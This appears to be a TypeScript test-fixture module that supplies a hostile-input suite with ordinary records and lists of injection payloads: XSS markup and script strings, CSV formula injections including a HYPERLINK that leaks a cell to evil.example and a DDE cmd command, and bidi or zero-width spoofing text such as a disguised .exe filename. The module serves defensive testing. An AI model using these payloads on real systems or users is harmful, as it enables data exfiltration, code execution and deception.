// Owns the building blocks of the generated hostile corpus (issue 7 §2): plain activity records to
// surround the hostile ones with, JSON Lines assembly with chosen line ends, the payload lists
// (markup/script, formulas, invisible characters) and lookups of what the case made of a record.
// Nothing here is committed data: every test writes its files into a temp dir.
import type { CaseDb } from '../../../electron/engine/db/openCase.ts';

const T0 = Date.UTC(2024, 0, 1);

/** An ordinary generic activity record, numbered so ids and times never collide across tests. */
export function rec(i: number, extra: Record<string, unknown> = {}): Record<string, unknown> {
  return {
    id: `rec-${i}`, timestamp: new Date(T0 + i * 1000).toISOString(), actor: `user${i % 5}@example.com`,
    action: 'document.view', status: 'success', description: `ordinary record ${i}`, system: 'hostile-suite', ...extra,
  };
}

/** JSON Lines text: objects are stringified, strings are written as they are (hostile lines). */
export function jsonl(items: (string | Record<string, unknown>)[], eol = '\n'): string {
  return items.map((x) => (typeof x === 'string' ? x : JSON.stringify(x))).join(eol) + eol;
}

/** Markup and script payloads: each would run, fetch or navigate if it were ever parsed as HTML. */
export const MARKUP_PAYLOADS = [
  '<script>window.__pwned=1</script>',
  '<img src=x onerror="window.__pwned=2">',
  '"><svg onload="window.__pwned=3">',
  'javascript:window.__pwned=4',
  '<a href="javascript:window.__pwned=5">open</a>',
  '\'"><iframe src="javascript:parent.__pwned=6"></iframe>',
  '{{constructor.constructor(\'window.__pwned=7\')()}}',
  '<style>@import url(http://evil.example/x.css)</style><link rel=stylesheet href=//evil.example/y.css>',
];

/** Cells a spreadsheet would evaluate (OWASP CSV injection: = + - @ tab CR). */
export const FORMULA_PAYLOADS = [
  '=1+1',
  '+SUM(A1:A9)',
  '-2+3',
  '@SUM(1,2)',
  '\t=1+2',
  '\r=3+4',
  '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
  '=cmd|\' /C calc\'!A0',
];

/** Text that looks different from what it is: bidi overrides/isolates, zero-width, BOM, separators. */
export const INVISIBLE = {
  bidi: 'invoice\u202Efdp.exe\u202C',
  isolate: 'name\u2066\u2067hidden\u2069',
  zeroWidth: 'ad\u200Bmin\u200C@exa\u200Dmple.com',
  bom: 'mid\uFEFFdle',
  separators: 'line\u2028break\u2029para',
} as const;

export function eventIdOf(db: CaseDb, sourceId: string, recordNo: number, eventIndex = 0): string {
  const id = db.prepare('SELECT CAST(id AS TEXT) FROM events WHERE source_id = ? AND record_no = ? AND event_index = ?').pluck().get(Number(sourceId), recordNo, eventIndex) as string | undefined;
  if (id === undefined) throw new Error(`no event for record ${recordNo} of source ${sourceId}`);
  return id;
}
